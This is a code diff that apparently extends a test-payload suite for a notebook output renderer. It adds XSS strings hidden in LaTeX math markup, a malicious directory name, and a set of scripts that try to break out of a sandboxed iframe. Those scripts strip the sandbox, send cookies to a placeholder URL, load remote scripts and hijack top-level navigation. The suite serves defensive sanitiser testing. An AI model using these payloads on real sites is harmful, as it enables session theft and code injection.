@@ -124,6 +124,11 @@ HTML = {
     "mutation-cdata": "<svg><![CDATA[><img src=x: onerror=JS>]]></svg>",
     "mutation-annotation": '<math><annotation-xml encoding="text/html"><img src=x: onerror=JS></annotation-xml></math>',
     "mutation-select": "<select><template><style><!--</style><a title='--><img src=x: onerror=JS>'></template>",
+    "math": "$\\href{javascript:void(JS)}{click}$ $\\style{background:url(URL)}{x}$",
+    "math-display": "\\[\\href{javascript:void(JS)}{click}\\] $$\\bbox[background:url(URL)]{x}$$",
+    "math-environment": "\\begin{equation}\\href{javascript:void(JS)}{click}\\end{equation}",
+    "math-entity": "&#36;&#92;href{javascript:void(JS)}{click}&#36;",
+    "math-attribute": "<p title='$\\href{javascript:void(JS)}{}$'>$\\hr<!-- -->ef{javascript:void(JS)}{click}$</p>",
     "nul": "<im\0g src=x: onerror=JS><img src=x: on\0error=JS>",
     "long": "<b>" * 3000 + "<img src=x: onerror=JS>",
 }
@@ -252,7 +257,7 @@ CLASSES = {
     "Video": "display(Video(url='URL'))",
     "Audio": "display(Audio(url='URL', autoplay=True))",
     "YouTubeVideo": "display(YouTubeVideo('road-YouTubeVideo'))",
-    "FileLink": "open('/tmp/<img src=x: onerror=JS>'.replace('/onerror', 'onerror'), 'w')\ndisplay(FileLink('/tmp/x'))",
+    "FileLinks": "import os\nos.makedirs('/tmp/<img src=x: onerror=JS>')\ndisplay(FileLinks('/tmp'))",
     "Code": "display(Code('<img src=x: onerror=JS>', language='python'))",
     "Pretty": "display(Pretty('<img src=x: onerror=JS>'))",
     "ProgressBar": "display(ProgressBar('3\"><img src=x: onerror=JS>'))",
@@ -326,6 +331,45 @@ SESSION = {
     "many": 'for number in range(300):\n    display(HTML(f\'<img id={number} src="x:" onerror="JS">\'))',
 }
 
+# scripts that run in the frame of ``--html iframe`` and try to leave it
+FRAME = {
+    "parent": "parent.JS",
+    "top": "top.JS",
+    "parent-document": "parent.document.body.innerHTML = ''",
+    "outer-frame": "parent.document.querySelector('iframe').removeAttribute('sandbox')",
+    "storage": "localStorage.setItem('road', '1')",
+    "cookie": "document.cookie = 'road=1; path=/'; fetch('URL?' + document.cookie)",
+    "server": "fetch('PATH', {method: 'POST', mode: 'no-cors', credentials: 'include'})",
+    "fetch": "fetch('URL', {mode: 'no-cors'})",
+    "request": "const request = new XMLHttpRequest(); request.open('GET', 'URL'); request.send()",
+    "image": "new Image().src = 'URL'",
+    "beacon": "navigator.sendBeacon('URL', 'x')",
+    "events": "new EventSource('URL')",
+    "socket": "new WebSocket('URL'.replace('http', 'ws'))",
+    "style": "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import url(URL);'}))",
+    "font": "new FontFace('x', 'url(URL)').load().catch(() => 0)",
+    "import": "import('URL.js').catch(() => 0)",
+    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'URL.js'}))",
+    "worker": "new Worker(URL_.createObjectURL(new Blob(['fetch(`URL`)'])))".replace("URL_", "window['U' + 'RL']"),
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'URL'}))",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL'}))",
+    "frame-script": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<img src=URL>'}))",
+    "location": "location.href = 'URL'",
+    "location-parent": "parent.location.href = 'URL'",
+    "location-top": "top.location.href = 'URL'",
+    "refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv='refresh' content='0;url=URL'>`)",
+    "form": "document.body.insertAdjacentHTML('beforeend', `<form action='URL'></form>`); document.forms[0].submit()",
+    "window": "window.open('URL')",
+    "link-top": "Object.assign(document.createElement('a'), {href: 'URL', target: '_top'}).click()",
+    "link-blank": "Object.assign(document.createElement('a'), {href: 'URL', target: '_blank'}).click()",
+    "download": "Object.assign(document.createElement('a'), {href: 'URL', download: 'x'}).click()",
+    "dialog": "alert('JS'); confirm('x'); print()",
+    "fullscreen": "document.documentElement.requestFullscreen().catch(() => 0)",
+    "message": "top.postMessage({road: 'JS'}, '*'); parent.postMessage('JS', '*')",
+    "peer": "new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'URL'.split('/')[2]}]}).createDataChannel('x')",
+}
+_RUNS = "<b>text</b><script>try {{ {script} }} catch (error) {{ }}; document.body.append('ran {name}')</script>"
+
 FAMILIES = {
     "html": {name: bundle("text/html", text) for name, text in HTML.items()},
     "svg": {name: bundle("image/svg+xml", text) for name, text in SVG.items()},
@@ -336,6 +380,7 @@ FAMILIES = {
     "result": RESULTS,
     "text": TEXT,
     "session": SESSION,
+    "frame": {name: bundle("text/html", _RUNS.format(script=script, name=name)) for name, script in FRAME.items()},
 }
 
 
